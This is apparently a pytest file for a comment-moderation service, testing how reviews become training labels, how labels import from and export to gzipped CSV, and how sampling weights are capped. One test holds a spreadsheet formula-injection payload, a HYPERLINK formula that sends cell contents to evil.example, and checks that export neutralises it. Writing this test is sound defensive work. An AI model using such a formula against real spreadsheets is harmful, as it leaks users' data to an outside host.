"""Reviews become training labels; labels import from CSV and export again."""

from __future__ import annotations

import csv
import gzip
from pathlib import Path

import numpy as np
import pytest
from sqlalchemy import func, select
from sqlalchemy.orm import Session, sessionmaker

from service.core.db import session_scope
from service.core.errors import InvalidInput
from service.core.tables import Comment, Label
from service.models.labels import (
    MAX_SAMPLING_WEIGHT,
    export_labels,
    import_labels,
    label_values,
    site_labels,
)
from service.moderation.reviews import review_comment
from tests.factories import CIVIL, TOXIC, decide_texts


def test_label_values_follow_the_review() -> None:
    assert label_values("reject", " code:attribute_over_threshold attribute:insult ") == {
        "toxic": 1,
        "insult": 1,
    }
    assert label_values("reject", "") == {"toxic": 1}
    assert set(label_values("approve", " attribute:toxic ").values()) == {0}


def test_each_review_is_a_label_and_a_later_review_rewrites_it(
    sessions: sessionmaker[Session],
) -> None:
    site_id, (held,) = decide_texts(sessions, TOXIC[:1])
    with session_scope(sessions) as session:
        review_comment(session, site_id, held, key_id=1, actor="a", action="reject")
    with session_scope(sessions) as session:
        first = site_labels(session, site_id)
        review_comment(session, site_id, held, key_id=1, actor="b", action="approve")
    with session_scope(sessions) as session:
        second = site_labels(session, site_id)
        assert session.scalar(select(func.count()).select_from(Label)) == 1
    assert first.texts == [TOXIC[0]] and first.labels[0, 0] == 1
    assert np.all(second.labels[0] == 0)


def _write(path: Path, rows: list[dict[str, str]]) -> Path:
    with gzip.open(path, "wt", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return path


def test_import_checks_the_whole_file_first_and_export_returns_it(
    sessions: sessionmaker[Session], tmp_path: Path
) -> None:
    site_id, (held,) = decide_texts(sessions, TOXIC[:1])
    good = _write(
        tmp_path / "good.csv.gz",
        [
            {"comment_id": "", "comment_text": "you utter fool", "toxic": "1", "insult": "1"},
            {"comment_id": held, "comment_text": TOXIC[0], "toxic": "0", "insult": ""},
        ],
    )
    unknown = _write(
        tmp_path / "unknown.csv.gz",
        [
            {"comment_id": "", "comment_text": "fine", "toxic": "0"},
            {"comment_id": "f" * 32, "comment_text": "who?", "toxic": "1"},
        ],
    )
    bad_cell = _write(tmp_path / "bad.csv.gz", [{"comment_text": "x", "toxic": "maybe"}])
    no_ids = _write(tmp_path / "no-ids.csv.gz", [{"comment_text": "plain rude", "toxic": "1"}])
    with session_scope(sessions) as session:
        with pytest.raises(InvalidInput, match="line 3") as missing:
            import_labels(session, site_id, unknown, actor="admin")
        assert missing.value.field == "comment_id"
        with pytest.raises(InvalidInput):
            import_labels(session, site_id, bad_cell, actor="admin")
        assert session.scalar(select(func.count()).select_from(Label)) == 0
        assert import_labels(session, site_id, good, actor="admin") == 2
        assert import_labels(session, site_id, no_ids, actor="admin") == 1
    with session_scope(sessions) as session:
        rows = list(export_labels(session, site_id))
    assert [(r["comment_text"], r["toxic"], r["insult"]) for r in rows] == [
        ("you utter fool", 1, 1),
        (TOXIC[0], 0, ""),
        ("plain rude", 1, ""),
    ]
    assert rows[1]["comment_id"] == held and rows[0]["source"] == "import"


def test_an_exported_formula_is_inert_in_a_spreadsheet_and_imports_back_unchanged(
    sessions: sessionmaker[Session], tmp_path: Path
) -> None:
    formula = '=HYPERLINK("https://evil.example/?leak="&A1, "click")'
    site_id, _ = decide_texts(sessions, CIVIL[:1])
    source = _write(
        tmp_path / "in.csv.gz",
        [
            {"comment_text": formula, "toxic": "1"},
            {"comment_text": "+1 agreed", "toxic": "0"},
            {"comment_text": "plain words", "toxic": "0"},
        ],
    )
    with session_scope(sessions) as session:
        import_labels(session, site_id, source, actor="@admin")
    exported = tmp_path / "out.csv"
    with session_scope(sessions) as session, exported.open("w", newline="") as handle:
        rows = list(export_labels(session, site_id))
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    with exported.open(newline="") as handle:
        cells = [(row["comment_text"], row["actor"]) for row in csv.DictReader(handle)]
    # Opened back as a spreadsheet would read it: no cell starts a formula.
    assert cells == [
        (f"'{formula}", "'@admin"),
        ("'+1 agreed", "'@admin"),
        ("plain words", "'@admin"),
    ]
    with session_scope(sessions) as session:
        import_labels(session, site_id, exported, actor="admin")
        texts = session.scalars(select(Label.text).order_by(Label.id)).all()
    assert texts[-3:] == [formula, "+1 agreed", "plain words"]


def test_an_audited_approval_weighs_as_many_approvals_as_it_stands_for(
    sessions: sessionmaker[Session], tmp_path: Path
) -> None:
    site_id, ids = decide_texts(sessions, TOXIC[:2] + CIVIL[:6])
    with session_scope(sessions) as session:
        status = {c.id: c.status for c in session.scalars(select(Comment))}
        held = [i for i in ids if status[i] == "held"]
        approved = [i for i in ids if status[i] == "approved"]
        assert held and len(approved) >= 4, status
        for comment_id in held:
            review_comment(session, site_id, comment_id, key_id=1, actor="m", action="reject")
    audit = _write(
        tmp_path / "audit.csv.gz",
        [
            {"comment_id": approved[0], "comment_text": CIVIL[0], "toxic": "0"},
            {"comment_id": "", "comment_text": "imported from elsewhere", "toxic": "1"},
        ],
    )
    with session_scope(sessions) as session:
        import_labels(session, site_id, audit, actor="auditor")
    with session_scope(sessions) as session:
        labels = site_labels(session, site_id)
    weight = dict(zip(labels.sampling, labels.weights, strict=True))
    assert sorted(labels.sampling) == sorted(["held"] * len(held) + ["approved", "other"])
    # Every held comment was reviewed, one approval in len(approved) was audited.
    assert weight == {"held": 1.0, "approved": float(len(approved)), "other": 1.0}


def test_sampling_weights_are_capped(sessions: sessionmaker[Session], tmp_path: Path) -> None:
    many = (CIVIL * 30)[:30]
    site_id, ids = decide_texts(sessions, TOXIC[:1] + many)
    with session_scope(sessions) as session:
        review_comment(session, site_id, ids[0], key_id=1, actor="m", action="reject")
        approved = session.scalars(select(Comment.id).where(Comment.status == "approved")).all()
        assert len(approved) > MAX_SAMPLING_WEIGHT
    audit = _write(
        tmp_path / "audit.csv.gz", [{"comment_id": approved[0], "comment_text": "x", "toxic": "0"}]
    )
    with session_scope(sessions) as session:
        import_labels(session, site_id, audit, actor="auditor")
        labels = site_labels(session, site_id)
    assert labels.sampling == ["held", "approved"]
    assert list(labels.weights) == [1.0, MAX_SAMPLING_WEIGHT]
